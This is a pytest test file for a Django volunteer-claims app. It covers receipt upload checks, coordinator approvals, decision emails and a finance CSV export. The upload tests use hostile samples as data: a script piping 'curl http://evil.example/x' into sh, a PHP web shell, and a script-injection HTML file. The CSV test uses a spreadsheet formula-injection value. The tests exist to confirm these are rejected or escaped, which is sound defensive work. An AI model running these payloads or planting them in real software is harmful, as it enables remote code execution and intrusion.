"""Claims: receipts checked on upload, coordinators approve or reject, finance gets a CSV."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from PIL import Image

from ambassadors.models import Claim
from tests.ambassadors.factories import AmbassadorFactory, ClaimFactory

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 60), "white").save(out, format="PNG")
    return out.getvalue()


def claim_data(receipt=None, **overrides) -> dict:
    data = {
        "month": "2026-11-01",
        "hours": "14.5",
        "expenses": "9.60",
        "expenses_description": "Bus fares to Clifton",
    }
    if receipt is not None:
        data["receipt"] = receipt
    data.update(overrides)
    return data


@pytest.fixture(autouse=True)
def november(settings):
    import time_machine

    with time_machine.travel(date(2026, 11, 25), tick=False):
        yield


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("receipt.png", png_bytes(), "image/png"),
        ("receipt.pdf", PDF, "application/pdf"),
    ],
)
def test_an_ambassador_claims_with_an_image_or_pdf_receipt(
    ambassador_client, ambassador, private_media, name, content, content_type
):
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    response = ambassador_client.post(reverse("ambassadors:claim_create"), claim_data(upload))
    assert response.status_code == 302
    claim = Claim.objects.get()
    assert claim.ambassador == ambassador
    assert claim.status == Claim.Status.SUBMITTED
    assert claim.hours == Decimal("14.5")
    assert str(private_media) in claim.receipt.path
    listing = ambassador_client.get(reverse("ambassadors:claim_list"))
    assert b"Awaiting approval" in listing.content


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (
            SimpleUploadedFile("receipt.jpg", SCRIPT, content_type="image/jpeg"),
            "could not be read as a photo or PDF",
        ),
        (
            SimpleUploadedFile("receipt.png", b"<?php system($_GET['c']); ?>", "image/png"),
            "could not be read as a photo or PDF",
        ),
        (
            SimpleUploadedFile(
                "receipt.pdf", b"<html><script>alert(1)</script>", "application/pdf"
            ),
            "could not be read as a photo or PDF",
        ),
        (
            SimpleUploadedFile("receipt.sh", SCRIPT, content_type="text/x-sh"),
            "must be a photo (JPG, PNG or WEBP) or a PDF",
        ),
        (
            SimpleUploadedFile("receipt.gif", b"GIF89a" + b"\0" * 20, content_type="image/gif"),
            "must be a photo (JPG, PNG or WEBP) or a PDF",
        ),
    ],
    ids=["script-named-jpg", "php-named-png", "html-named-pdf", "shell-script", "gif"],
)
def test_receipts_that_are_not_images_or_pdfs_are_refused(ambassador_client, upload, message):
    response = ambassador_client.post(reverse("ambassadors:claim_create"), claim_data(upload))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Claim.objects.exists()


@pytest.mark.django_db
def test_an_oversized_receipt_is_refused(ambassador_client, settings):
    settings.AMBASSADORS_RECEIPT_MAX_BYTES = 1024
    big = SimpleUploadedFile("receipt.pdf", PDF + b"0" * 2048, content_type="application/pdf")
    response = ambassador_client.post(reverse("ambassadors:claim_create"), claim_data(big))
    assert response.status_code == 200
    assert "must be smaller than 1.0\xa0KB" in response.content.decode()
    assert not Claim.objects.exists()


@pytest.mark.django_db
def test_expenses_need_a_receipt_but_hours_alone_do_not(ambassador_client):
    response = ambassador_client.post(reverse("ambassadors:claim_create"), claim_data())
    assert "Upload a receipt for the expenses" in response.content.decode()
    assert not Claim.objects.exists()

    hours_only = claim_data(expenses="0", expenses_description="")
    assert (
        ambassador_client.post(reverse("ambassadors:claim_create"), hours_only).status_code == 302
    )
    assert Claim.objects.get().receipt.name == ""


@pytest.mark.django_db
def test_one_claim_a_month_unless_it_was_rejected(ambassador_client, ambassador):
    ClaimFactory(ambassador=ambassador, month=date(2026, 11, 1))
    data = claim_data(expenses="0", expenses_description="")
    response = ambassador_client.post(reverse("ambassadors:claim_create"), data)
    assert "You have already claimed for November 2026" in response.content.decode()

    Claim.objects.update(status=Claim.Status.REJECTED)
    assert ambassador_client.post(reverse("ambassadors:claim_create"), data).status_code == 302


@pytest.mark.django_db
def test_months_outside_the_offered_ones_are_refused(ambassador_client):
    data = claim_data(month="2025-01-01", expenses="0", expenses_description="")
    response = ambassador_client.post(reverse("ambassadors:claim_create"), data)
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()


@pytest.mark.django_db
def test_a_coordinator_approves_and_rejects_with_a_reason(coordinator_client, coordinator):
    approve_me = ClaimFactory(ambassador__display_name="Amira K")
    reject_me = ClaimFactory(ambassador__display_name="Gary T")
    decide = "ambassadors_claim_decide"

    coordinator_client.post(reverse(decide, args=[approve_me.pk]), {"decision": "approve"})
    approve_me.refresh_from_db()
    assert approve_me.status == Claim.Status.APPROVED
    assert approve_me.decided_by == coordinator

    response = coordinator_client.post(
        reverse(decide, args=[reject_me.pk]), {"decision": "reject", "reason": ""}, follow=True
    )
    assert b"Give a reason for rejecting the claim." in response.content
    reject_me.refresh_from_db()
    assert reject_me.status == Claim.Status.SUBMITTED

    coordinator_client.post(
        reverse(decide, args=[reject_me.pk]),
        {"decision": "reject", "reason": "Receipt is for a different month"},
    )
    reject_me.refresh_from_db()
    assert reject_me.status == Claim.Status.REJECTED
    assert reject_me.decision_reason == "Receipt is for a different month"


@pytest.mark.django_db
def test_the_ambassador_is_emailed_the_decision_once_it_is_saved(
    coordinator_client, ambassador, django_capture_on_commit_callbacks
):
    approve_me = ClaimFactory(ambassador=ambassador, month=date(2026, 10, 1), expenses=0)
    reject_me = ClaimFactory(ambassador=ambassador, month=date(2026, 11, 1))
    decide = "ambassadors_claim_decide"

    with django_capture_on_commit_callbacks() as queued:
        coordinator_client.post(reverse(decide, args=[approve_me.pk]), {"decision": "approve"})
    assert mail.outbox == []  # nothing leaves before the decision is committed
    for send in queued:
        send()
    approved = mail.outbox[-1]
    assert approved.to == [ambassador.user.email]
    assert approved.subject == "Your claim for October 2026 is approved"
    assert "(12.50 hours) is approved." in approved.body
    assert "/ambassadors/portal/claims/" in approved.body

    with django_capture_on_commit_callbacks(execute=True):
        coordinator_client.post(
            reverse(decide, args=[reject_me.pk]),
            {"decision": "reject", "reason": "The receipt isn't for November"},
        )
    rejected = mail.outbox[-1]
    assert rejected.subject == "Your claim for November 2026 is rejected"
    assert "The coordinator's reason: The receipt isn't for November" in rejected.body
    assert "£8.40 of expenses" in rejected.body
    assert "You can send a new claim for that month." in rejected.body
    assert len(mail.outbox) == 2


@pytest.mark.django_db
def test_no_decision_email_when_the_decision_is_rolled_back(
    ambassador, coordinator, django_capture_on_commit_callbacks
):
    claim = ClaimFactory(ambassador=ambassador)
    with (
        django_capture_on_commit_callbacks(execute=True) as queued,
        pytest.raises(RuntimeError),
        transaction.atomic(),
    ):
        claim.decide(Claim.Status.APPROVED, by=coordinator)
        raise RuntimeError("a later step of the same change failed")
    assert queued == []
    assert mail.outbox == []
    claim.refresh_from_db()
    assert claim.status == Claim.Status.SUBMITTED


@pytest.mark.django_db
def test_an_ambassador_without_an_account_is_not_emailed(
    coordinator, django_capture_on_commit_callbacks
):
    claim = ClaimFactory(ambassador=AmbassadorFactory(user=None))
    with django_capture_on_commit_callbacks(execute=True):
        claim.decide(Claim.Status.APPROVED, by=coordinator)
    assert claim.requester() is None
    assert mail.outbox == []


@pytest.mark.django_db
def test_an_ambassador_whose_account_is_closed_is_not_emailed(
    coordinator, make_user, django_capture_on_commit_callbacks
):
    closed = make_user(username="gone", email="gone@example.org")
    closed.is_active = False
    closed.save()
    claim = ClaimFactory(ambassador=AmbassadorFactory(user=closed))
    with django_capture_on_commit_callbacks(execute=True):
        claim.decide(Claim.Status.APPROVED, by=coordinator)
    assert mail.outbox == []


@pytest.mark.django_db
def test_the_ambassador_sees_the_decision_and_reason(ambassador_client, ambassador, coordinator):
    claim = ClaimFactory(ambassador=ambassador)
    claim.decide(Claim.Status.REJECTED, by=coordinator, reason="Hours over the agreed limit")
    response = ambassador_client.get(reverse("ambassadors:claim_list"))
    assert b"Rejected: Hours over the agreed limit" in response.content


@pytest.mark.django_db
def test_ambassadors_cannot_decide_claims(ambassador_client, ambassador):
    claim = ClaimFactory(ambassador=ambassador)
    url = reverse("ambassadors_claim_decide", args=[claim.pk])
    response = ambassador_client.post(url, {"decision": "approve"})
    assert response.status_code in (302, 403)
    claim.refresh_from_db()
    assert claim.status == Claim.Status.SUBMITTED


@pytest.mark.django_db
def test_the_finance_csv_lists_approved_claims_only(coordinator_client, coordinator):
    approved = ClaimFactory(
        ambassador__display_name="Amira K",
        month=date(2026, 10, 1),
        hours=Decimal("20"),
        expenses=Decimal("12.30"),
        expenses_description='=HYPERLINK("http://evil")',
    )
    approved.decide(Claim.Status.APPROVED, by=coordinator)
    ClaimFactory(ambassador__display_name="Waiting W", month=date(2026, 10, 1))
    rejected = ClaimFactory(ambassador__display_name="Rejected R", month=date(2026, 10, 1))
    rejected.decide(Claim.Status.REJECTED, by=coordinator, reason="Duplicate")
    other_month = ClaimFactory(ambassador__display_name="Later L", month=date(2026, 11, 1))
    other_month.decide(Claim.Status.APPROVED, by=coordinator)

    response = coordinator_client.get(reverse("ambassadors_finance_csv"), {"month": "2026-10"})
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="approved-claims-2026-10.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Claim", "Ambassador", "Month", "Hours", "Expenses (GBP)"]
    assert rows[1][1:6] == ["Amira K", "2026-10", "20.00", "12.30", '\'=HYPERLINK("http://evil")']
    assert len(rows) == 2

    everything = coordinator_client.get(reverse("ambassadors_finance_csv"))
    names = {row[1] for row in csv.reader(io.StringIO(everything.content.decode("utf-8-sig")))}
    assert names == {"Ambassador", "Amira K", "Later L"}


@pytest.mark.django_db
def test_claims_and_receipts_older_than_six_years_are_deleted(ambassador):
    from pathlib import Path

    from ambassadors.tasks import delete_expired_claims

    old = ClaimFactory(ambassador=ambassador, month=date(2020, 10, 1))
    kept = ClaimFactory(ambassador=ambassador, month=date(2020, 11, 1))
    old_file = Path(old.receipt.path)
    assert old_file.exists()

    assert delete_expired_claims.delay().get() == 1

    assert not old_file.exists()
    assert list(Claim.objects.all()) == [kept]


@pytest.mark.django_db
def test_the_claims_page_lists_decisions_with_and_without_a_recorded_decider(
    coordinator_client, coordinator
):
    ClaimFactory(ambassador__display_name="No Decider", status=Claim.Status.APPROVED)
    ClaimFactory(ambassador__display_name="Decided D").decide(Claim.Status.APPROVED, by=coordinator)
    response = coordinator_client.get(reverse("ambassadors_claims"))
    assert response.status_code == 200
    assert b"No Decider" in response.content and b"Decided D" in response.content
